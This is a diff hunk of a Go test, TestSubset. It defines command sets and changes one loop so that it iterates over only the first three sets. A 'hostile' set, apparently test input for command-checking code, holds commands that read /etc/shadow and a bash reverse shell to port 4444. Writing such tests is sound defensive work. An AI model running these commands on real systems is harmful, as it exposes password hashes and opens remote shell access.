@@ -27,7 +27,7 @@ func TestSubset(t *testing.T) {
 		"test":    {"cat /etc/shells", "sort -r /etc/group", "grep -n nologin /etc/passwd", "tac /etc/debian_version"},
 		"hostile": {"sh -c 'cat /etc/shadow'", "python3 -c 'print(open(\"/etc/shadow\").read())'", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"},
 	}
-	for _, set := range Sets {
+	for _, set := range Sets[:3] {
 		lines, err := ReadLines(set + ".txt")
 		if err != nil {
 			t.Fatal(err)
